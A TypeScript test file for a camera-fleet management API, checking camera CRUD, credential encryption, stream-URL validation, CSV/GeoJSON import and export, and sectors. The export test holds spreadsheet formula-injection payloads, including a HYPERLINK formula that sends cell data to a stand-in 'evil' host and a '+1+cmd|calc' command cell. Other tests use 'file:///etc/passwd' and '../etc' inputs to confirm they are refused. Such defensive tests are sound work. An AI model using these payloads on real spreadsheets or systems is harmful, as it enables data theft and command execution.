import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { type Client, startCentre, type TestCentre } from '../support/centre.js';

let t: TestCentre;
let admin: Client;
before(async () => {
  t = await startCentre({ demo: true });
  admin = await t.user('admin', 'admin');
});
after(() => t.stop());

const cam = (id: string, extra: Record<string, unknown> = {}) => ({
  id,
  name: `Test ${id}`,
  sectorId: 'gare',
  streams: { main: `rtsp://10.0.0.1/${id}/main` },
  ...extra,
});

test('the demo fleet lists 230 cameras with filters and paging', async () => {
  const all = await admin.req('GET', '/api/cameras?limit=1000');
  assert.equal(all.json.total, 230);
  const pilot = await admin.req('GET', '/api/cameras?phase=pilot&limit=1000');
  assert.equal(pilot.json.total, 10);
  assert.ok(pilot.json.items.every((c: any) => c.sectorId === 'gare'));
  const page = await admin.req('GET', '/api/cameras?limit=10&offset=20');
  assert.equal(page.json.items.length, 10);
  assert.equal(page.json.items[0].id, 'VAL-021');
  const sectors = await admin.req('GET', '/api/sectors');
  assert.equal(
    sectors.json.reduce((n: number, s: any) => n + s.cameras, 0),
    230,
  );
});

test('camera CRUD; credentials encrypted at rest and never returned', async () => {
  const created = await admin.req(
    'POST',
    '/api/cameras',
    cam('T-1', { credentials: { username: 'viewer', password: 's3cret-pass' } }),
  );
  assert.equal(created.status, 201, created.text);
  assert.equal(created.json.hasCredentials, true);
  assert.ok(!created.text.includes('s3cret-pass') && !created.text.includes('viewer'));
  const raw = await t.centre.services.store.cameras.get('T-1');
  assert.match(raw!.credentialsCipher!, /^v1:/);
  assert.ok(!raw!.credentialsCipher!.includes('s3cret'));
  assert.deepEqual(await t.centre.services.fleet.credentialsFor('T-1'), {
    username: 'viewer',
    password: 's3cret-pass',
  });
  assert.equal((await admin.req('POST', '/api/cameras', cam('T-1'))).status, 409);
  const patched = await admin.req('PATCH', '/api/cameras/T-1', { name: 'Renamed', status: 'maintenance' });
  assert.equal(patched.json.name, 'Renamed');
  assert.equal(patched.json.hasCredentials, true, 'a patch without credentials keeps them');
  const cleared = await admin.req('PATCH', '/api/cameras/T-1', { credentials: null });
  assert.equal(cleared.json.hasCredentials, false);
  assert.equal((await admin.req('GET', '/api/cameras/T-1')).json.status, 'maintenance');
  assert.equal((await admin.req('DELETE', '/api/cameras/T-1')).status, 200);
  assert.equal((await admin.req('GET', '/api/cameras/T-1')).status, 404);
  const journal = await t.centre.services.store.audit.search({ target: 'T-1', limit: 10 });
  assert.deepEqual(journal.map((e) => e.action).reverse(), [
    'camera.create',
    'camera.update',
    'camera.update',
    'camera.delete',
  ]);
  assert.ok(!JSON.stringify(journal).includes('s3cret'));
});

test('a stream URL with embedded credentials is refused with the reason', async () => {
  const r = await admin.req('POST', '/api/cameras', cam('T-2', { streams: { main: 'rtsp://u:p@10.0.0.1/x' } }));
  assert.equal(r.status, 400);
  assert.match(r.json.message, /body\.streams\.main: must not embed credentials/);
});

test('a stream URL that names no host is refused with the reason', async () => {
  for (const main of ['rtsp://', 'rtsp:///x', 'rtsps:///stream?x=1', 'ftp://h/x', 'file:///etc/passwd']) {
    const r = await admin.req('POST', '/api/cameras', cam('T-3', { streams: { main } }));
    assert.equal(r.status, 400, main);
    assert.match(r.json.message, /body\.streams\.main: must (name a host|be an rtsp)/, main);
  }
  const sub = await admin.req(
    'POST',
    '/api/cameras',
    cam('T-3', { streams: { main: 'rtsp://h/x', sub: 'rtsp:///y' } }),
  );
  assert.match(sub.json.message, /body\.streams\.sub: must name a host/);
  const patch = await admin.req('PATCH', '/api/cameras/VAL-001', { streams: { main: 'rtsp:///x' } });
  assert.equal(patch.status, 400);
  assert.equal((await admin.req('GET', '/api/cameras/T-3')).status, 404, 'nothing was created');
});

test('exported CSV cells that a spreadsheet would run as formulas are quoted, and re-import unchanged', async () => {
  const names = ['=HYPERLINK("http://evil/"&A1)', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', "'=already quoted"];
  for (const [i, name] of names.entries())
    assert.equal(
      (await admin.req('POST', '/api/cameras', cam(`F-${i}`, { name, address: name, tags: [`${name[0]}tag`] }))).status,
      201,
    );
  const csv = await admin.req('GET', '/api/cameras/export?format=csv');
  const lines = csv.text.split('\n').filter((l) => l.startsWith('F-'));
  assert.equal(lines.length, names.length);
  for (const line of lines) {
    const cells = line.split(',').slice(1);
    for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `cell ${cell} of ${line}`);
  }
  assert.ok(
    lines.some((l) => l.includes('-2+3') && l.includes("'-2+3")),
    'a leading minus is quoted too',
  );
  try {
    const imp = await admin.req('POST', '/api/cameras/import', csv.text, { 'content-type': 'text/csv' });
    assert.equal(imp.status, 200, imp.text);
    for (const [i, name] of names.entries()) {
      const c = (await admin.req('GET', `/api/cameras/F-${i}`)).json;
      // The import trims cells (the tab case), as it always has.
      assert.deepEqual([c.name, c.address, c.tags], [name.trim(), name.trim(), [`${name[0]}tag`.trim()]], `F-${i}`);
    }
  } finally {
    for (let i = 0; i < names.length; i++) await admin.req('DELETE', `/api/cameras/F-${i}`);
  }
});

test('CSV export → import round trip through the API', async () => {
  const csv = await admin.req('GET', '/api/cameras/export?format=csv');
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-type')!, /text\/csv/);
  assert.equal(csv.text.trim().split('\n').length, 231);
  const before = (await admin.req('GET', '/api/cameras?limit=1000')).json.items;
  const imp = await admin.req('POST', '/api/cameras/import', csv.text, { 'content-type': 'text/csv' });
  assert.equal(imp.status, 200, imp.text);
  assert.equal(imp.json.imported, 230);
  const afterList = (await admin.req('GET', '/api/cameras?limit=1000')).json.items;
  const strip = (c: any) => ({ ...c, updatedAt: undefined });
  assert.deepEqual(afterList.map(strip), before.map(strip));
});

test('GeoJSON export → import round trip through the API', async () => {
  const geo = await admin.req('GET', '/api/cameras/export?format=geojson');
  assert.equal(geo.json.type, 'FeatureCollection');
  assert.equal(geo.json.features.length, 230);
  const imp = await admin.req('POST', '/api/cameras/import', geo.text, { 'content-type': 'application/geo+json' });
  assert.equal(imp.status, 200, imp.text);
});

test('a CSV of 100 rows with 3 bad rows is refused whole, naming the 3 lines', async () => {
  const header =
    'id,name,sector_id,lat,lon,address,main_url,sub_url,username,password,model,phase,installed_at,status,tags';
  const rows = Array.from({ length: 100 }, (_, i) => {
    const id = `IMP-${String(i).padStart(3, '0')}`;
    return `${id},Imported ${i},centre-ville,50.35,3.52,,rtsp://10.1.0.${i}/main,,,,,extension,2026-05-01,active,import`;
  });
  rows[9] = rows[9]!.replace('rtsp://10.1.0.9/main', 'not a url'); // line 11
  rows[49] = rows[49]!.replace('50.35', '95'); // line 51
  rows[89] = rows[89]!.replace('IMP-089', '../etc'); // line 91
  const r = await admin.req('POST', '/api/cameras/import', [header, ...rows].join('\n'), {
    'content-type': 'text/csv',
  });
  assert.equal(r.status, 400, r.text);
  assert.deepEqual(
    r.json.rows.map((e: any) => e.line),
    [11, 51, 91],
  );
  assert.match(r.json.message, /nothing imported/);
  assert.equal((await admin.req('GET', '/api/cameras?tag=import')).json.total, 0, 'no row was half-imported');
});

test('an import naming an unknown sector is refused whole', async () => {
  const header =
    'id,name,sector_id,lat,lon,address,main_url,sub_url,username,password,model,phase,installed_at,status,tags';
  const body = `${header}\nX-1,A,gare,,,,rtsp://h/a,,,,,pilot,,active,\nX-2,B,nowhere,,,,rtsp://h/b,,,,,pilot,,active,\n`;
  const r = await admin.req('POST', '/api/cameras/import', body, { 'content-type': 'text/csv' });
  assert.equal(r.status, 400);
  assert.match(r.json.message, /unknown sectors: nowhere/);
  assert.equal((await admin.req('GET', '/api/cameras/X-1')).status, 404);
});

test('sectors: create, rename, refuse deleting a non-empty one', async () => {
  assert.equal((await admin.req('POST', '/api/sectors', { id: 'zone-test', name: 'Zone test' })).status, 201);
  assert.equal((await admin.req('POST', '/api/sectors', { id: 'zone-test', name: 'again' })).status, 409);
  assert.equal((await admin.req('PATCH', '/api/sectors/zone-test', { name: 'Zone T' })).json.name, 'Zone T');
  assert.equal((await admin.req('DELETE', '/api/sectors/gare')).status, 409);
  assert.equal((await admin.req('DELETE', '/api/sectors/zone-test')).status, 200);
});
